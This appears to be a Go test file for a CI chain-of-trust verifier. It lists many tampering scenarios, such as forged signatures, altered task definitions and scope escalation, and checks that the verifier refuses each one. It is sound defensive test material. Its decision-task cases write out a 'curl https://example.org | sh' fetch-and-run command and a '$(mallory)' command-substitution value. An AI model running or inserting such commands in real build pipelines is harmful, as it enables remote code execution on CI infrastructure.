package trace_test

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mozilla-releng/cot/fixtures"
	"github.com/mozilla-releng/cot/trace"
)

// attack differs from the standard world, in which the same target verifies
// (TestHonest), in one thing.
type attack struct {
	name   string
	target func(w *served) *fixtures.Task
	edit   func(w *served)
	rule   trace.Rule
	run    string // a named run of the target
}

var attacks = []attack{
	// Runs.
	{name: "a failed task with a valid document", target: func(w *served) *fixtures.Task { return w.FailedBuild }, rule: trace.RuleRunNotCompleted},
	{name: "a named run that failed", target: func(w *served) *fixtures.Task { return w.Rerun }, run: "0", rule: trace.RuleRunNotCompleted},
	{name: "a named run that does not exist", target: build, run: "7", rule: trace.RuleRunNotCompleted},
	{
		name: "run 1's document served for run 2", target: func(w *served) *fixtures.Task { return w.Rerun },
		edit: func(w *served) { w.Rerun.Run(2).Document.Replay = w.Rerun.Run(1) }, rule: trace.RuleCotRunID,
	},

	// Document and signature.
	{name: "a task without a document", target: func(w *served) *fixtures.Task { return w.Unsigned }, rule: trace.RuleCotMissing},
	{name: "a document that is listed but lost", target: build, edit: func(w *served) { w.Build.Artifact(fixtures.DocumentName).Lost = true }, rule: trace.RuleCotMissing},
	{name: "a signature that was deleted", target: build, edit: func(w *served) { w.Build.Last().Remove(fixtures.SignatureName) }, rule: trace.RuleSignatureMissing},
	{name: "a signature that the listing has and storage doesn't", target: build, edit: func(w *served) { w.Build.Artifact(fixtures.SignatureName).Lost = true }, rule: trace.RuleSignatureMissing},
	{name: "a flipped signature", target: build, edit: func(w *served) {
		document(w).EditSignature = func(b []byte) []byte { b[3] ^= 1; return b }
	}, rule: trace.RuleSignatureInvalid},
	{name: "a short signature", target: build, edit: func(w *served) {
		document(w).EditSignature = func(b []byte) []byte { return b[:63] }
	}, rule: trace.RuleSignatureInvalid},
	{name: "an unknown key", target: build, edit: func(w *served) { document(w).Key = w.Keys.Foreign }, rule: trace.RuleSignatureInvalid},
	{name: "an unknown key of an input's signer", target: func(w *served) *fixtures.Task { return w.ForeignSigner }, rule: trace.RuleSignatureInvalid},
	{name: "another implementation's key", target: generic, edit: func(w *served) {
		w.GenericBuild.Last().Document.Key = w.Keys.Scriptworker
	}, rule: trace.RuleSignerUnauthorized},
	{name: "a time stamp that nobody can judge", target: build, edit: func(w *served) { addForm(w, "public/chain-of-trust.json.tsr") }, rule: trace.RuleTimestampInvalid},
	{name: "a certificate that policy has no root for", target: build, edit: func(w *served) { addForm(w, "public/chain-of-trust.json.pem") }, rule: trace.RuleSignerUnauthorized},
	{name: "a CMS signature that policy has no root for", target: build, edit: func(w *served) { addForm(w, "public/chain-of-trust.json.p7s") }, rule: trace.RuleSignerUnauthorized},
	{name: "a clear-signed document beside", target: build, edit: func(w *served) { addForm(w, "public/chainOfTrust.json.asc") }, rule: trace.RuleSignerUnauthorized},
	{name: "stored bytes changed after signing", target: build, edit: func(w *served) {
		w.Build.Artifact(fixtures.DocumentName).EditStored = func(b []byte) []byte { return append(b, ' ') }
	}, rule: trace.RuleSignatureInvalid},
	{name: "another task's validly signed document", target: build, edit: func(w *served) { document(w).Replay = w.D2G.Last() }, rule: trace.RuleCotTaskID},
	{name: "another worker's document", target: build, edit: func(w *served) {
		w.Build.Last().WorkerID = "i-0another"
		document(w).Edit = func(d fixtures.Object) { d["workerId"] = "i-0honest" }
	}, rule: trace.RuleCotWorker},
	{name: "another worker group", target: build, edit: editDocument(func(d fixtures.Object) { d["workerGroup"] = "elsewhere" }), rule: trace.RuleCotWorker},
	{name: "an embedded task that differs", target: build, edit: func(w *served) {
		document(w).EditTask = func(task fixtures.Object) { object(task, "payload")["maxRunTime"] = 1 }
	}, rule: trace.RuleCotTaskDefinition},
	{name: "the queue's definition differs from what was run", target: build, edit: func(w *served) {
		w.Build.EditQueue = func(d fixtures.Object) { object(d, "payload", "env")["EXTRA"] = "1" }
	}, rule: trace.RuleCotTaskDefinition},
	{name: "a key that the task added inside task", target: generic, edit: func(w *served) {
		w.GenericBuild.Last().Document.AdditionalData = fixtures.Object{"task": fixtures.Object{"payload": fixtures.Object{"added": true}}}
	}, rule: trace.RuleCotTaskDefinition},
	{name: "another version", target: build, edit: editDocument(func(d fixtures.Object) { d["chainOfTrustVersion"] = 2 }), rule: trace.RuleCotMalformed},
	{name: "no artifacts member", target: build, edit: editDocument(func(d fixtures.Object) { delete(d, "artifacts") }), rule: trace.RuleCotMalformed},
	{name: "a run number that is text", target: build, edit: editDocument(func(d fixtures.Object) { d["runId"] = "0" }), rule: trace.RuleCotMalformed},
	{name: "a case variant of taskId", target: build, edit: editDocument(func(d fixtures.Object) { d["taskid"] = d["taskId"] }), rule: trace.RuleCotMalformed},
	{name: "a long s in artifacts", target: build, edit: editDocument(func(d fixtures.Object) { d["artifactſ"] = fixtures.Object{} }), rule: trace.RuleCotMalformed},
	{name: "a case variant of sha256", target: build, edit: editDocument(func(d fixtures.Object) {
		for _, v := range object(d, "artifacts") {
			v.(fixtures.Object)["SHA256"] = strings.Repeat("0", 64)
		}
	}), rule: trace.RuleCotMalformed},
	{name: "a duplicate name", target: build, edit: func(w *served) {
		document(w).EditBytes = func(b []byte) []byte {
			return bytes.Replace(b, []byte(`"taskId"`), []byte(`"taskId": "AAAAAAAAQAAAAAAAAAAAAA", "taskId"`), 1)
		}
	}, rule: trace.RuleCotMalformed},
	{name: "data after the document", target: build, edit: func(w *served) {
		document(w).EditBytes = func(b []byte) []byte { return append(b, "{}"...) }
	}, rule: trace.RuleCotMalformed},
	{name: "invalid UTF-8", target: build, edit: func(w *served) {
		document(w).EditBytes = func(b []byte) []byte {
			return bytes.Replace(b, []byte(`"environment": {`), []byte("\"environment\": {\"a\": \"\xff\", "), 1)
		}
	}, rule: trace.RuleCotMalformed},
	{name: "a deep document", target: build, edit: func(w *served) {
		document(w).EditBytes = func(b []byte) []byte {
			deep := strings.Repeat("[", 5000) + strings.Repeat("]", 5000)
			return bytes.Replace(b, []byte(`"environment": {`), []byte(`"environment": {"a": `+deep+`, `), 1)
		}
	}, rule: trace.RuleCotMalformed},
	{name: "an empty hash table", target: build, edit: editDocument(func(d fixtures.Object) {
		object(d, "artifacts")["public/build/target.tar.bz2"] = fixtures.Object{}
	}), rule: trace.RuleHashAlgorithm},
	{name: "another hash algorithm", target: build, edit: editDocument(func(d fixtures.Object) {
		object(d, "artifacts", "public/build/target.tar.bz2")["md5"] = strings.Repeat("0", 32)
	}), rule: trace.RuleHashAlgorithm},
	{name: "a digest that is too short", target: build, edit: editDocument(func(d fixtures.Object) {
		object(d, "artifacts", "public/build/target.tar.bz2")["sha256"] = "00"
	}), rule: trace.RuleCotMalformed},

	// The parent's task graph.
	{name: "a task that is in no graph", target: build, edit: func(w *served) { w.Build.Entry.Hidden = true }, rule: trace.RuleNotInTaskGraph},
	{name: "an entry with a relative time in the place of the task", target: build, edit: editEntry(func(e fixtures.Object) {
		e["task"] = fixtures.Object{"relative-datestamp": "1 day"}
	}), rule: trace.RuleDiffersFromTaskGraph},
	{name: "a task that differs from its entry", target: build, edit: editEntry(func(e fixtures.Object) {
		object(e, "task", "payload")["maxRunTime"] = 60
	}), rule: trace.RuleDiffersFromTaskGraph},
	{name: "a key that the entry lacks", target: build, edit: editEntry(func(e fixtures.Object) {
		delete(object(e, "task"), "tags")
	}), rule: trace.RuleDiffersFromTaskGraph},
	{name: "an empty key that the entry lacks", target: build, edit: editDefinition(build, func(d fixtures.Object) {
		object(d, "payload")["cache"] = fixtures.Object{}
	}), rule: trace.RuleDiffersFromTaskGraph},
	{name: "a null that the entry lacks", target: build, edit: editDefinition(build, func(d fixtures.Object) {
		object(d, "payload", "env")["X"] = nil
	}), rule: trace.RuleDiffersFromTaskGraph},
	{name: "an empty key that the tree does not ask for", target: build, edit: inDecision(func(d fixtures.Object) {
		object(d, "payload")["cache"] = []any{}
	}), rule: trace.RuleDiffersFromTree},
	{name: "another requires", target: build, edit: editDefinition(build, func(d fixtures.Object) { d["requires"] = "all-resolved" }), rule: trace.RuleDiffersFromTaskGraph},
	{name: "another deadline", target: build, edit: editDefinition(build, func(d fixtures.Object) { d["deadline"] = "2030-01-01T00:00:00.000Z" }), rule: trace.RuleDiffersFromTaskGraph},
	{name: "an additional dependency", target: build, edit: editDefinition(build, func(d fixtures.Object) {
		d["dependencies"] = append(d["dependencies"].([]any), "AAAAAAAAQAAAAAAAAAAAAA")
	}), rule: trace.RuleUndeclaredDependency},
	{name: "a dependency dropped", target: build, edit: editDefinition(build, func(d fixtures.Object) {
		d["dependencies"] = d["dependencies"].([]any)[1:]
	}), rule: trace.RuleUndeclaredDependency},
	{name: "a foreign task group", target: build, edit: func(w *served) { w.Build.Definition["taskGroupId"] = w.Twice.ID }, rule: trace.RuleDiffersFromTaskGraph},
	{name: "another parent", target: build, edit: func(w *served) {
		object(w.Build.Definition, "extra")["parent"] = w.Twice.ID
		w.Build.Definition["taskGroupId"] = w.Twice.ID
	}, rule: trace.RuleNotInTaskGraph},
	{name: "a child created after its parent's run", target: build, edit: func(w *served) {
		w.Build.Recreate(w.Decision.Last().Resolved.Add(16 * time.Minute))
	}, rule: trace.RuleDiffersFromTaskGraph},
	{name: "a task graph that storage changed", target: build, edit: func(w *served) {
		w.Decision.Artifact(trace.TaskGraphName).EditStored = func(b []byte) []byte { return append(b, '\n') }
	}, rule: trace.RuleArtifactHash},
	{name: "a task graph that is not in the document", target: build, edit: func(w *served) {
		w.Decision.Artifact(trace.TaskGraphName).Unhashed = true
	}, rule: trace.RuleArtifactNotInCot},
	{name: "a task graph that is not listed", target: build, edit: func(w *served) {
		w.Decision.Artifact(trace.TaskGraphName).Unlisted = true
	}, rule: trace.RuleArtifactUnavailable},
	{name: "a task graph beyond the policy's size", target: build, edit: func(w *served) {
		w.policy = func(p string) string { return p + "\nlimits: {maxTaskGraphBytes: 1KiB}\n" }
	}, rule: trace.RuleArtifactUnavailable},
	{name: "a document beyond the policy's size", target: build, edit: func(w *served) {
		w.policy = func(p string) string { return p + "\nlimits: {maxCotBytes: 1KiB}\n" }
	}, rule: trace.RuleCotMissing},
	{name: "a task graph that is not JSON", target: build, edit: func(w *served) {
		w.Decision.Artifact(trace.TaskGraphName).Content = fixtures.Bytes([]byte(`{"a"`))
	}, rule: trace.RuleNotInTaskGraph},
	{name: "a relative time that can't be read", target: build, edit: editEntry(func(e fixtures.Object) {
		object(e, "task")["deadline"] = fixtures.Object{"relative-datestamp": "1 fortnight"}
	}), rule: trace.RuleDiffersFromTaskGraph},
	{name: "a dependency in another's place", target: build, edit: editDefinition(build, func(d fixtures.Object) {
		d["dependencies"].([]any)[0] = "AAAAAAAAQAAAAAAAAAAAAA"
	}), rule: trace.RuleUndeclaredDependency},
	{name: "one duplicate too many", target: func(w *served) *fixtures.Task { return w.Duplicates[0] }, edit: func(w *served) {
		w.Duplicated.Entry.Edit = func(e fixtures.Object) { object(e, "attributes")["task_duplicates"] = 1 }
	}, rule: trace.RuleNotInTaskGraph},

	// The decision task and the tree.
	{name: "an altered command in the decision task", target: build, edit: inDecision(func(d fixtures.Object) {
		c := object(d, "payload")["command"].([]any)
		c[len(c)-1] = c[len(c)-1].(string) + "; curl https://example.org | sh"
	}), rule: trace.RuleDiffersFromTree},
	{name: "a hostile owner in the decision task", target: build, edit: inDecision(func(d fixtures.Object) {
		object(d, "metadata")["owner"] = "mallory@example.org"
	}), rule: trace.RuleDiffersFromTree},
	{name: "a hostile commit message in the decision task", target: build, edit: inDecision(func(d fixtures.Object) {
		object(d, "payload", "env")["GECKO_COMMIT_MSG"] = "try: $(mallory)"
	}), rule: trace.RuleDiffersFromTree},
	{name: "a hostile ref in the decision task", target: build, edit: inDecision(func(d fixtures.Object) {
		object(d, "payload", "env")["GECKO_HEAD_REF"] = "mallory"
	}), rule: trace.RuleDiffersFromTree},
	{name: "another date in the decision task", target: build, edit: inDecision(func(d fixtures.Object) {
		c := object(d, "payload")["command"].([]any)
		s := c[len(c)-1].(string)
		i := strings.Index(s, "--pushdate='") + len("--pushdate='")
		c[len(c)-1] = s[:i] + "1" + s[i:]
	}), rule: trace.RuleDiffersFromTree},
	{name: "an additional scope in the decision task", target: build, edit: inDecision(func(d fixtures.Object) {
		d["scopes"] = append(d["scopes"].([]any), "assume:mallory")
	}), rule: trace.RuleDiffersFromTree},
	{name: "a decision task that is not its own group", target: build, edit: inDecision(func(d fixtures.Object) {
		d["taskGroupId"] = "AAAAAAAAQAAAAAAAAAAAAA"
	}), rule: trace.RuleEvidenceUnavailable},
	{name: "a decision task in another pool", target: build, edit: inDecision(func(d fixtures.Object) { move(d, "b-linux") }), rule: trace.RuleDecisionPool},
	{name: "a parent that is a task like any other", target: build, edit: func(w *served) {
		object(w.Build.Definition, "extra")["parent"] = w.Fetch.ID
	}, rule: trace.RuleDecisionPool},
	{name: "parents in a circle", target: build, edit: func(w *served) {
		object(w.Build.Definition, "extra")["parent"] = w.D2G.ID
		object(w.D2G.Definition, "extra")["parent"] = w.Build.ID
	}, rule: trace.RuleChainTooLong},
	{name: "a parent that is no task id", target: build, edit: func(w *served) {
		object(w.Build.Definition, "extra")["parent"] = "mallory"
	}, rule: trace.RuleNotInTaskGraph},
	{name: "a repository on a host that policy does not name", target: build, edit: inDecision(func(d fixtures.Object) {
		object(d, "payload", "env")["GECKO_HEAD_REPOSITORY"] = "https://hg.example.org/mozilla-central"
	}), rule: trace.RuleRepositoryUntrusted},
	{name: "a repository that is no repository", target: build, edit: inDecision(func(d fixtures.Object) {
		object(d, "payload", "env")["GECKO_HEAD_REPOSITORY"] = "https://hg.mozilla.org/try/../mozilla-central"
	}), rule: trace.RuleRepositoryUntrusted},
	{name: "a short revision", target: build, edit: inDecision(func(d fixtures.Object) {
		env := object(d, "payload", "env")
		env["GECKO_HEAD_REV"] = env["GECKO_HEAD_REV"].(string)[:12]
	}), rule: trace.RuleRevisionNotInTree},
	{name: "a decision task of no product", target: build, edit: inDecision(func(d fixtures.Object) {
		delete(object(d, "payload", "env"), "GECKO_HEAD_REPOSITORY")
	}), rule: trace.RuleProductMismatch},
	{name: "a project list that can't be read", target: build, edit: func(w *served) { w.ProjectsYAML = "- [" }, rule: trace.RuleContextUnvouched},
	{name: "a project list that is gone", target: build, edit: func(w *served) {
		w.server.Fault(fixtures.Fault{Match: fixtures.PathHas("projects.yml"), Status: 404})
	}, rule: trace.RuleContextUnvouched},
	{name: "an unknown event", target: build, edit: inDecision(func(d fixtures.Object) { object(d, "extra")["tasks_for"] = "full-moon" }), rule: trace.RuleTasksFor},
	{name: "a pushlog without the revision", target: build, edit: func(w *served) { w.Push.Hidden = true }, rule: trace.RuleRevisionNotInTree},
	{name: "a pushlog with two pushes of the revision", target: build, edit: func(w *served) {
		w.Central.EditPushlog = func(_ string, answer fixtures.Object) {
			pushes := object(answer, "pushes")
			for _, p := range pushes {
				pushes["999999"] = p
				return
			}
		}
	}, rule: trace.RuleRevisionNotInTree},
	{name: "a revision that is not the tip of its push", target: build, edit: func(w *served) {
		w.Push.Changesets = append(w.Push.Changesets, fixtures.Changeset{
			Node: strings.Repeat("ab", 20), Author: "x", Desc: "more", Parents: []string{w.Push.Revision()},
		})
	}, rule: trace.RuleRevisionNotInTree},
	{name: "a changed template", target: build, edit: func(w *served) {
		w.Push.Files[".taskcluster.yml"] = bytes.Replace(w.Push.Files[".taskcluster.yml"], []byte("maxRunTime: 1800"), []byte("maxRunTime: 1801"), 1)
	}, rule: trace.RuleDiffersFromTree},
	{name: "a template that can't be rendered", target: build, edit: func(w *served) {
		w.Push.Files[".taskcluster.yml"] = []byte("version: 1\ntasks: [{$eval: nothing.known}]\n")
	}, rule: trace.RuleTemplateError},
	{name: "a template that is not YAML", target: build, edit: func(w *served) { w.Push.Files[".taskcluster.yml"] = []byte("{") }, rule: trace.RuleTemplateError},
	{name: "no template", target: build, edit: func(w *served) { delete(w.Push.Files, ".taskcluster.yml") }, rule: trace.RuleTemplateError},
	{name: "another source", target: build, edit: func(w *served) {
		object(w.Build.Definition, "metadata")["source"] = w.Try.URL() + "/file/" + w.Push.Revision() + "/x"
	}, rule: trace.RuleSourceMismatch},
	{name: "a try push", target: func(w *served) *fixtures.Task { return w.TryBuild }, edit: func(w *served) { w.options.AcceptUnsignedPools = true }, rule: trace.RuleUntrustedContrib},
	{name: "a fork", target: func(w *served) *fixtures.Task { return w.ForkBuild }, rule: trace.RuleUntrustedContrib},
	{name: "a level 1 pool", target: func(w *served) *fixtures.Task { return w.TryBuild }, edit: func(w *served) { w.options.AcceptUntrustedTree = true }, rule: trace.RuleSignerUnauthorized},

	// What a task may do.
	{name: "a restricted scope of another tree", target: signing, edit: func(w *served) {
		grant(w.Signing, "project:releng:signing:cert:release-signing")
	}, rule: trace.RuleRestrictedScope},
	{name: "a scope that satisfies a restricted one", target: signing, edit: func(w *served) { grant(w.Signing, "project:releng:signing:*") }, rule: trace.RuleRestrictedScope},
	{name: "an interactive docker task", target: build, edit: func(w *served) {
		both(w.Build, func(d fixtures.Object) { object(d, "payload", "features")["interactive"] = true })
	}, rule: trace.RuleInteractive},
	{name: "an interactive generic task", target: generic, edit: func(w *served) {
		both(w.GenericBuild, func(d fixtures.Object) { object(d, "payload", "features")["interactive"] = true })
	}, rule: trace.RuleInteractive},
	{name: "remote desktop", target: generic, edit: func(w *served) {
		both(w.GenericBuild, func(d fixtures.Object) { object(d, "payload")["rdpInfo"] = "private/rdp.json" })
	}, rule: trace.RuleInteractive},
	{name: "a tag of another worker implementation", target: generic, edit: func(w *served) {
		both(w.GenericBuild, func(d fixtures.Object) { object(d, "tags")["worker-implementation"] = "docker-worker" })
	}, rule: trace.RuleWorkerImplementation},
	{name: "a docker-worker scope of a generic task", target: generic, edit: func(w *served) {
		grant(w.GenericBuild, "docker-worker:cache:x")
	}, rule: trace.RuleWorkerImplementation},
	{name: "a pool that policy gives to another implementation", target: generic, edit: func(w *served) {
		w.policy = func(p string) string { return p + "\nimplementations: {docker-worker: [gecko-3/b-win2022]}\n" }
	}, rule: trace.RuleWorkerImplementation},
	{name: "an image other than the task's", target: build, edit: func(w *served) {
		document(w).Edit = func(d fixtures.Object) {
			object(d, "environment")["imageArtifactHash"] = "sha256:" + strings.Repeat("0", 64)
		}
	}, rule: trace.RuleDockerImageHash},
	{name: "an image other than the task's, which reports itself to be the task's", target: build, edit: func(w *served) {
		document(w).Edit = func(d fixtures.Object) {
			object(d, "environment")["imageArtifactHash"] = "sha256:" + strings.Repeat("0", 64)
		}
		w.Build.Last().Add(inputsReport(w.Image, fixtures.ImageName, w.Image.Artifact(fixtures.ImageName).SHA256()))
	}, rule: trace.RuleDockerImageHash},
	{name: "no recorded image", target: build, edit: editDocument(func(d fixtures.Object) { delete(object(d, "environment"), "imageArtifactHash") }), rule: trace.RuleDockerImageHash},
	{name: "an image hash on a privileged container", target: build, edit: func(w *served) {
		both(w.Build, func(d fixtures.Object) {
			object(d, "payload")["capabilities"] = fixtures.Object{"privileged": true}
		})
	}, rule: trace.RuleDockerImageHash},
	{name: "an image of another task than declared", target: build, edit: func(w *served) {
		both(w.Build, func(d fixtures.Object) {
			object(d, "extra", "chainOfTrust", "inputs")["docker-image"] = w.Fetch.ID
		})
	}, rule: trace.RuleDockerImageTask},
	{name: "a prebuilt image", target: build, edit: func(w *served) {
		both(w.Build, func(d fixtures.Object) { object(d, "payload")["image"] = "ubuntu:latest" })
	}, rule: trace.RulePrebuiltImage},
	{name: "an indexed image", target: build, edit: indexedImage, rule: trace.RuleIndexedImage},
	{name: "an image of a kind that nobody knows", target: build, edit: func(w *served) {
		both(w.Build, func(d fixtures.Object) {
			object(d, "payload")["image"] = fixtures.Object{"type": "mystery", "path": fixtures.ImageName}
		})
	}, rule: trace.RuleDockerImageTask},
	{name: "no image", target: d2g, edit: func(w *served) {
		both(w.D2G, func(d fixtures.Object) { object(d, "payload")["image"] = 7 })
	}, rule: trace.RuleDockerImageTask},
	{name: "an image built in another pool", target: build, edit: func(w *served) {
		both(w.Image, func(d fixtures.Object) { move(d, "b-linux") })
	}, rule: trace.RuleDockerImagePool},
	{name: "an image built by a scriptworker", target: build, edit: func(w *served) {
		both(w.Image, func(d fixtures.Object) {
			d["provisionerId"] = "scriptworker-k8s"
			move(d, "gecko-3-signing")
			object(d, "tags")["worker-implementation"] = "scriptworker"
		})
		w.Image.Last().Document.Key = w.Keys.Scriptworker
	}, rule: trace.RuleDockerImagePool},
	{name: "an input from a task that is no dependency", target: build, edit: func(w *served) {
		both(w.Build, func(d fixtures.Object) {
			var rest []any
			for _, id := range d["dependencies"].([]any) {
				if id != w.Fetch.ID {
					rest = append(rest, id)
				}
			}
			d["dependencies"] = rest
		})
	}, rule: trace.RuleUndeclaredInput},
	{name: "fetches that can't be read", target: build, edit: func(w *served) {
		both(w.Build, func(d fixtures.Object) { object(d, "payload", "env")["MOZ_FETCHES"] = "[{" })
	}, rule: trace.RuleUndeclaredInput},
	{name: "an index path that names a task without that route", target: generic, edit: func(w *served) {
		mountByNamespace(w, toolchainPath)
		w.Index[toolchainPath] = w.Fetch
	}, rule: trace.RuleIndexedInput},
	{name: "an index path that names nothing", target: generic, edit: func(w *served) {
		mountByNamespace(w, "gecko.no.such.path")
	}, rule: trace.RuleIndexedInput},
	{name: "inputs from more index paths than anybody has", target: generic, edit: func(w *served) {
		both(w.GenericBuild, func(d fixtures.Object) {
			payload := object(d, "payload")
			for i := range 1001 {
				payload["mounts"] = append(payload["mounts"].([]any), fixtures.Object{
					"file": fmt.Sprint("f", i), "content": fixtures.Object{"namespace": toolchainPath, "artifact": "public/build/clang.tar.zst"},
				})
			}
		})
	}, rule: trace.RuleChainTooLong},
	{name: "an unpinned input where policy wants pins", target: build, edit: func(w *served) { w.policy = requirePinned }, rule: trace.RuleInputUnpinned},
	{name: "a digest in a mount that no document has", target: generic, edit: func(w *served) {
		both(w.GenericBuild, func(d fixtures.Object) { mountContent(d)["sha256"] = strings.Repeat("0", 64) })
	}, rule: trace.RuleArtifactHash},
	{name: "an input of another product", target: build, edit: func(w *served) {
		w.policy = twoProducts("[]")
		takeFrom(w.Build, w.ReleaseBuild)
	}, rule: trace.RuleProductMismatch},
	{name: "an input's own document is broken", target: build, edit: func(w *served) { w.Toolchain.Last().Document.Key = w.Keys.Foreign }, rule: trace.RuleSignatureInvalid},
	{name: "an input rerun while the consumer ran", target: build, edit: func(w *served) {
		r := w.Fetch.Rerun()
		r.Scheduled = w.Build.Last().Started.Add(time.Second)
		r.Started, r.Resolved = r.Scheduled.Add(time.Second), r.Scheduled.Add(2*time.Second)
		r.Resolve(fixtures.Failed, "failed")
	}, rule: trace.RuleRunAmbiguous},
	{name: "a chain beyond the policy's length", target: signing, edit: func(w *served) {
		w.policy = func(p string) string { return p + "\nlimits: {maxChainLength: 1}\n" }
	}, rule: trace.RuleChainTooLong},

	// Expectations.
	{name: "another tree than expected", target: build, edit: func(w *served) { w.options.ExpectTree = mustTree(w.t, w.Release.URL()) }, rule: trace.RuleTreeUnexpected},
	{name: "another product than expected", target: build, edit: func(w *served) {
		w.policy, w.options.ExpectProduct = twoProducts("[]"), "release"
	}, rule: trace.RuleProductMismatch},
	{name: "another revision than expected", target: build, edit: func(w *served) {
		w.options.ExpectTree = mustTree(w.t, w.Central.URL())
		w.options.ExpectTree.Revision = mustRevision(w.t, w.ReleasePush.Revision())
	}, rule: trace.RuleTreeUnexpected},
	{name: "a task that the queue has forgotten", target: build, edit: func(w *served) { w.Build.Gone = true }, rule: trace.RuleEvidenceUnavailable},
}

func TestAttacks(t *testing.T) {
	for _, a := range slices.Concat(attacks, imageAttacks, workerAttacks, inputAttacks) {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			w := serve(t)
			if a.edit != nil {
				w.Edit(func() { a.edit(w) })
			}
			id := a.target(w).ID
			if a.run != "" {
				id += "/" + a.run
			}
			r := w.verify(id)
			wantRefused(t, r, a.rule)
			if _, f := r.Verified(mustRun(t, fmt.Sprintf("%s/0", a.target(w).ID)), "public/build/target.tar.bz2"); f == nil {
				t.Error("an artifact can be had from an untrusted report")
			}
		})
	}
}
